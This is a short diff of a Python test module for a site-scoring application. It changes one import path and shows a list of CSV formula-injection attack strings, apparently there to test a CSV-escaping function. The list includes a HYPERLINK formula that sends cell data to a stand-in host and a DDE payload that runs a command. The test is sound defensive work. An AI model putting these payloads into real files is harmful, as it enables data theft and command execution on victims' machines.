@@ -14,8 +14,8 @@ from grid.models import GridConnectionPoint, Zone
 from siting import csv_safe, dashboard, uploads
 from siting.importers.sites import RowError, template_csv
 from siting.models import ScoringRun, Site
-from tests.integration.world import scored_world_create
 from tests.siting.upload_helpers import boundaries, user  # noqa: F401
+from tests.support.world import scored_world_create
 
 ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
            "\uff1d1+1"]
